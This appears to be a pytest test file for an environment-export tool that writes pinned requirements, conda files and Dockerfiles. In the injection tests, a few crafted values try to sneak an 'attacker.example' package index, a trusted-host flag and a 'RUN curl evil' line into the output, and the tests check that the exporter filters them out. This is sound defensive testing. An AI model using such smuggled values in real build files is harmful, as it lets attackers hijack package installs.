import json
import os
import subprocess
import sys

import pytest

from keel.common import errors
from keel.common.errors import GuardError
from keel.guard.env_export import export_environment
from keel.guard.environment import capture_environment

ENV = {
    "kind": "keel-environment",
    "schema_version": 1,
    "captured_at": "2026-11-01T10:00:00+00:00",
    "python": {"version": "3.11.7", "implementation": "CPython"},
    "platform": {"system": "Linux", "machine": "x86_64"},
    "distributions": {
        "torch": "2.13.0+cpu",
        "numpy": "2.4.6",
        "Typing_Extensions": "4.16.0",
        "pip": "26.3",
        "keel": "0.1.0",
        "my-plugin": "1.0.0",
    },
    "distribution_sources": {
        "keel": {"kind": "editable"},
        "my-plugin": {"kind": "vcs", "vcs": "git", "commit": "0123456789abcdef" * 2 + "01234567"},
    },
}
EXPECTED_REQUIREMENTS_BODY = [
    "--extra-index-url https://download.pytorch.org/whl/cpu",
    "numpy==2.4.6",
    "torch==2.13.0+cpu",
    "typing-extensions==4.16.0",
]


def _body(text):
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def test_env_export_requirements_pins_exact_versions():
    text = export_environment(ENV, "requirements")
    assert _body(text) == EXPECTED_REQUIREMENTS_BODY
    assert text.endswith("\n")
    assert "# Python 3.11.7 (CPython) on Linux x86_64" in text


def test_env_export_notes_packages_not_from_an_index():
    text = export_environment(ENV, "requirements")
    assert "# NOTE: keel==0.1.0 was installed from an editable checkout" in text
    assert "my-plugin==1.0.0 was installed from version control at commit 0123456789ab" in text
    assert "pip==" not in text


def test_env_export_refuses_injected_lines():
    crafted = json.loads(json.dumps(ENV))
    crafted["distributions"]["evil"] = "1.0\n--index-url https://attacker.example/simple"
    crafted["distributions"]["bad name\n-e ."] = "1.0"
    crafted["captured_at"] = "now\n--trusted-host attacker.example"
    text = export_environment(crafted, "requirements")
    assert _body(text) == EXPECTED_REQUIREMENTS_BODY
    assert "skipped evil: invalid version" in text


def test_env_export_without_local_torch_build_needs_no_extra_index():
    plain = json.loads(json.dumps(ENV))
    plain["distributions"]["torch"] = "2.13.0"
    assert not any(
        line.startswith("--") for line in _body(export_environment(plain, "requirements"))
    )


def test_env_export_conda_environment_yml():
    yaml = pytest.importorskip("yaml")
    document = yaml.safe_load(export_environment(ENV, "conda"))
    assert document["name"] == "keel-env"
    assert document["dependencies"][:2] == ["python=3.11.7", "pip"]
    assert document["dependencies"][2] == {"pip": EXPECTED_REQUIREMENTS_BODY}


def test_env_export_unknown_format():
    with pytest.raises(GuardError) as caught:
        export_environment(ENV, "poetry")
    assert caught.value.code == errors.BAD_VALUE


def test_env_export_rejects_non_environment_document():
    with pytest.raises(GuardError) as caught:
        export_environment({"distributions": {}}, "requirements")
    assert caught.value.code == errors.BAD_ENV_DOCUMENT


def test_env_export_current_environment_pins_every_index_distribution():
    env = capture_environment()
    pins = _body(export_environment(env, "requirements"))
    pinned = {line.split("==")[0] for line in pins if "==" in line}
    expected = set(env["distributions"]) - set(env["distribution_sources"]) - {"pip"}
    assert pinned == expected


@pytest.mark.slow
def test_env_export_requirements_reinstall_in_fresh_venv(tmp_path):
    """The exported file reproduces the pins: pip install -r in a new venv, then pip freeze."""
    env = {
        "schema_version": 1,
        "python": {"version": "3.11.7", "implementation": "CPython"},
        "distributions": {"six": "1.17.0", "iniconfig": "2.3.0", "pip": "26.3"},
    }
    requirements = tmp_path / "requirements.txt"
    requirements.write_text(export_environment(env, "requirements"))
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    python = venv / ("Scripts" if os.name == "nt" else "bin") / "python"
    quiet = {"check": True, "capture_output": True, "text": True}
    pip_env = {**os.environ, "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
    subprocess.run(
        [str(python), "-m", "pip", "install", "-r", str(requirements)], env=pip_env, **quiet
    )
    frozen = subprocess.run([str(python), "-m", "pip", "freeze"], env=pip_env, **quiet).stdout
    assert sorted(frozen.split()) == ["iniconfig==2.3.0", "six==1.17.0"]


# -- runtime closure, hashes, Dockerfile ------------------------------------------------------


def test_runtime_closure_of_a_model_leaves_test_and_lint_tools_out():
    from keel.guard.env_export import installed_requirements, model_roots, runtime_closure

    closure, notes = runtime_closure(model_roots(["keel"], ["tsv", "lstm"]), installed_requirements)
    assert {"keel", "torch", "numpy", "safetensors", "tokenizers", "jsonnet"} <= closure
    assert not {"pytest", "ruff", "mypy", "hypothesis", "transformers", "mlflow-skinny"} & closure
    assert notes == []
    with_transformer = model_roots(["keel"], ["pretrained_transformer", "basic_classifier"])
    assert with_transformer["keel"] == {"transformers"}
    closure, _ = runtime_closure(with_transformer, installed_requirements)
    assert "transformers" in closure
    with_spacy = model_roots(["keel"], ["text_classification_json", "spacy", "basic_classifier"])
    assert with_spacy["keel"] == {"spacy"}
    closure, _ = runtime_closure(with_spacy, installed_requirements)
    assert {"spacy", "thinc"} <= closure


def test_runtime_closure_names_a_root_it_cannot_expand():
    from keel.guard.env_export import runtime_closure

    closure, notes = runtime_closure(
        {"my-plugin": set()}, lambda name: None if name == "my-plugin" else []
    )
    assert closure == {"my-plugin"}
    assert notes and "my-plugin is not installed" in notes[0]


def test_export_only_keeps_the_closure():
    text = export_environment(ENV, "requirements", only={"numpy", "torch"})
    assert _body(text) == [
        "--extra-index-url https://download.pytorch.org/whl/cpu",
        "numpy==2.4.6",
        "torch==2.13.0+cpu",
    ]
    assert "runtime closure of the model's components" in text


def test_dockerfile_recreates_the_python_or_the_cuda_runtime():
    text = export_environment({**ENV, "env_vars": {"PYTHONHASHSEED": "0"}}, "dockerfile")
    assert text.startswith("# syntax=docker/dockerfile:1.7\n")
    assert "\nFROM python:3.11.7-slim\n" in text
    assert '\nENV PYTHONHASHSEED="0"\n' in text
    assert "COPY <<'REQUIREMENTS' /opt/keel/requirements.txt\n" in text
    body = text.split("COPY <<'REQUIREMENTS' /opt/keel/requirements.txt\n")[1]
    assert "numpy==2.4.6\ntorch==2.13.0+cpu\n" in body and "\nREQUIREMENTS\nRUN " in body
    cuda = export_environment({**ENV, "torch": {"cuda": "12.4"}}, "dockerfile")
    assert "\nFROM nvidia/cuda:12.4.0-cudnn-runtime-ubuntu22.04\n" in cuda
    assert "python3.11 python3.11-venv" in cuda
    crafted = export_environment(
        {**ENV, "env_vars": {"LANG": "C.UTF-8\nRUN curl evil"}}, "dockerfile"
    )
    assert "curl" not in crafted  # a value that could break out of its line is left out


def test_hashes_come_from_the_index_and_a_missing_one_is_an_error():
    import http.server
    import threading

    served = {
        "/numpy/2.4.6/json": {
            "urls": [{"digests": {"sha256": "a" * 64}}, {"digests": {"sha256": "b" * 64}}]
        },
        "/typing-extensions/4.16.0/json": {"urls": [{"digests": {"sha256": "c" * 64}}]},
    }

    class Index(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the http.server API
            document = served.get(self.path)
            self.send_response(200 if document else 404)
            self.end_headers()
            if document:
                self.wfile.write(json.dumps(document).encode())

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        index = f"http://127.0.0.1:{server.server_address[1]}"
        text = export_environment(
            ENV, "requirements", only={"numpy", "typing-extensions"}, hashes_from=index
        )
        assert (
            "numpy==2.4.6 \\\n    --hash=sha256:" + "a" * 64 + " \\\n    --hash=sha256:" + "b" * 64
        ) in text
        assert "typing-extensions==4.16.0 \\\n    --hash=sha256:" + "c" * 64 in text
        with pytest.raises(GuardError) as raised:
            export_environment(ENV, "requirements", only={"numpy", "torch"}, hashes_from=index)
        assert "torch==2.13.0+cpu" in str(raised.value) and "404" in str(raised.value)
    finally:
        server.shutdown()
